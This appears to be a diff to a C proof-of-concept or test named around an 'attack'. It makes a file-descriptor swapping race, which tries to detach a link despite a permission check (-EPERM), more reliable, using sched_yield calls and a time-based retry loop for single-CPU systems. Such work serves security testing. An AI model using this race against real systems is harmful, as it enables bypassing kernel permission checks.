@@ -10,6 +10,7 @@
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 #include "attack.h"
@@ -22,6 +23,8 @@ enum {
 	NR_PIDFD_OPEN = 434,
 	NR_PIDFD_GETFD = 438,
 	RACE_TURNS = 20000,
+	RACE_YIELD = 16,
+	RACE_SECONDS = 5,
 };
 
 struct link_update_args {
@@ -122,6 +125,7 @@ static void *swap(void *unused)
 	(void)unused;
 	while (racing) {
 		dup2(race_link, race_fd);
+		sched_yield();
 		dup2(race_other, race_fd);
 	}
 	return NULL;
@@ -131,6 +135,7 @@ static void *swap(void *unused)
 static int detach_in_race(const struct scene *scene)
 {
 	pthread_t thread;
+	time_t start = time(NULL);
 	int error = -EPERM;
 
 	race_link = get_pin(scene->detachable);
@@ -139,8 +144,12 @@ static int detach_in_race(const struct scene *scene)
 	racing = true;
 	if (pthread_create(&thread, NULL, swap, NULL) != 0)
 		return -EAGAIN;
-	for (int i = 0; i < RACE_TURNS && error != 0; i++)
+	for (int i = 0; error != 0 && (i < RACE_TURNS || time(NULL) - start < RACE_SECONDS); i++) {
 		error = detach_fd(race_fd);
+		/* On one CPU the other thread runs only when this one lets it. */
+		if (i % RACE_YIELD == 0)
+			sched_yield();
+	}
 	racing = false;
 	pthread_join(thread, NULL);
 	return error;
